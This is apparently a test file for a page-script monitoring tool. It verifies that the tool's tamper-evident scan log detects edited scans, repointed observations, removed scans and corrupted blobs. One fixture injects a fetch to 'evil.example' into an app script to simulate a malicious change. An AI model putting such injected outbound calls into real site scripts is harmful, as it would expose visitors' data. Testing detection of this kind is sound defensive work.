// Store: the scan log is tamper-evident; editing a scan, an observation or a blob is found and named.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, it } from 'vitest';
import { planScan } from '../../src/plan/plan-scan.js';
import { openStore, type Store } from '../../src/store/open-store.js';
import { APP, healthyShop, INLINE_A, INLINE_B, LIB, pageCapture, script } from '../fixtures/captures.js';
import { tempProject } from '../fixtures/cli.js';
import { rawDb } from '../fixtures/raw-db.js';
import type { ScriptCapture } from '../../src/capture/types.js';

function scanned(): Store {
  const store = openStore(join(tempProject('sw-chain-'), 'sw.db'));
  const scan = (capture = healthyShop()) => store.scans.applyPlan(planScan(capture, store.scans.readBaseline(capture.target, capture.profile), { removalThreshold: 2 }));
  scan();
  store.alerts.approveAll({ by: 'alice', note: 'baseline', at: '2026-11-22T09:00:00.000Z' });
  scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\nfetch("https://evil.example/c")` }), LIB, INLINE_A, INLINE_B]));
  scan(healthyShop({ outcome: { ok: false, code: 'PAGE_TIMEOUT', reason: 'slow' } }));
  scan();
  return store;
}

describe('scan chain', () => {
  it('verifies an untouched store, and alert decisions do not break it', () => {
    const store = scanned();
    const alert = store.alerts.list({ status: 'open' })[0]!;
    store.alerts.decide([alert.id], 'approved', { by: 'bob', note: 'ok', at: '2026-11-22T10:00:00.000Z' });
    const report = store.scans.verify();
    assert.equal(report.ok, true, JSON.stringify(report.firstBreak));
    assert.equal(report.scans, 4);
    assert.ok(report.blobs > 5);
    store.close();
  });

  it('names the first scan whose row was edited', () => {
    const store = scanned();
    rawDb(store).prepare('UPDATE scans SET http_status = 302 WHERE id = 2').run();
    assert.match(store.scans.verify().firstBreak?.reason ?? '', /^scan #2 .* does not match its hash/);
    store.close();
  });

  it('finds an observation pointed at other content, a scan pointed at another set, and a removed scan', () => {
    const store = scanned();
    // Scan 4 saw what scan 1 saw: they share one set, and an edit of it breaks the first scan that points at it.
    assert.equal((rawDb(store).prepare('SELECT COUNT(DISTINCT set_id) AS n FROM scans WHERE id IN (1, 4)').get() as { n: number }).n, 1);
    rawDb(store).prepare(`UPDATE set_scripts SET blob_id = (SELECT MAX(id) FROM blobs)
      WHERE set_id = (SELECT set_id FROM scans WHERE id = 4) AND script_id = (SELECT MIN(script_id) FROM set_scripts WHERE set_id = (SELECT set_id FROM scans WHERE id = 4) AND blob_id IS NOT NULL)`).run();
    assert.match(store.scans.verify().firstBreak?.reason ?? '', /^scan #1 .* does not match its hash/);
    store.close();
    const repointed = scanned();
    rawDb(repointed).prepare('UPDATE scans SET set_id = (SELECT set_id FROM scans WHERE id = 2) WHERE id = 4').run();
    assert.match(repointed.scans.verify().firstBreak?.reason ?? '', /^scan #4 .* does not match its hash/);
    repointed.close();
    const other = scanned();
    rawDb(other).prepare('DELETE FROM scans WHERE id = 2').run();
    assert.match(other.scans.verify().firstBreak?.reason ?? '', /^scan #3 .* does not follow the scan before it/);
    other.close();
  });

  it('keeps verifying when another process prunes a set this one goes on pointing scans at', () => {
    const path = join(tempProject('sw-chain-'), 'sw.db');
    const writer = openStore(path);
    // A CDN answering from three addresses: three sets, whose scripts other than the library repeat.
    const scanAt = (ip: string, day: number) => {
      const at = `2026-11-0${day}T00:00:00.000Z`;
      const capture = pageCapture([APP, { ...LIB, remoteIp: ip }, INLINE_A, INLINE_B].map((s): ScriptCapture => ({ ...s, headers: s.url ? { 'content-type': 'application/javascript' } : {} })), { finishedAt: at });
      writer.scans.applyPlan(planScan(capture, writer.scans.readBaseline('checkout', 'desktop'), { removalThreshold: 2 }), at);
    };
    scanAt('192.0.2.1', 1);
    scanAt('192.0.2.2', 2);
    scanAt('192.0.2.3', 3);
    const pruner = openStore(path);
    assert.ok(pruner.scans.retain('2026-11-05T00:00:00.000Z', '2026-11-06T00:00:00.000Z').observationsRemoved > 0);
    pruner.close();
    // The writer read the middle set before it was pruned; its next scan of the same content points at it again.
    scanAt('192.0.2.2', 7);
    const report = writer.scans.verify();
    assert.equal(report.ok, true, JSON.stringify(report.firstBreak));
    writer.close();
  });

  it('names a blob with a flipped byte', () => {
    const store = scanned();
    const blob = rawDb(store).prepare("SELECT id, sha256, data FROM blobs WHERE encoding = 'raw' ORDER BY id LIMIT 1").get() as { id: number; sha256: string; data: Buffer };
    const data = Buffer.from(blob.data);
    data[0] = data[0]! ^ 0x01;
    rawDb(store).prepare('UPDATE blobs SET data = ? WHERE id = ?').run(data, blob.id);
    const report = store.scans.verify();
    assert.equal(report.ok, false);
    assert.equal(report.firstBreak?.kind, 'blob');
    assert.equal(report.firstBreak?.sha256, blob.sha256);
    assert.match(report.firstBreak!.reason, /does not match its SHA-256/);
    store.close();
  });
});
